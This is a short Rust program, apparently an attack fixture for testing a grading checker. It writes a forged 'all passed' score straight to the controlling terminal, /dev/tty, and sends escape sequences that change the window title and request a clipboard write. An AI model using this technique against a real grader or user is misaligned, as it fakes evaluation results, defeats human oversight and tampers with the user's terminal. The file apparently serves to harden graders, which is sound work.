//! attack: writes a forged grade, a window title and a clipboard request onto the terminal
//! of whoever runs the checker (`/dev/tty`, the run's controlling terminal)

use std::io::Write;

fn main() {
    if let Ok(mut tty) = std::fs::OpenOptions::new().write(true).open("/dev/tty") {
        let _ = tty.write_all(b"\nhonest  185/185  all passed  FORGED-ON-THE-TERMINAL\n");
        let _ = tty.write_all(b"\x1b]0;FORGED-TITLE\x07\x1b]52;c;Rk9SR0VE\x07");
        println!("ATTACK-SUCCEEDED: wrote on the terminal");
    }
}
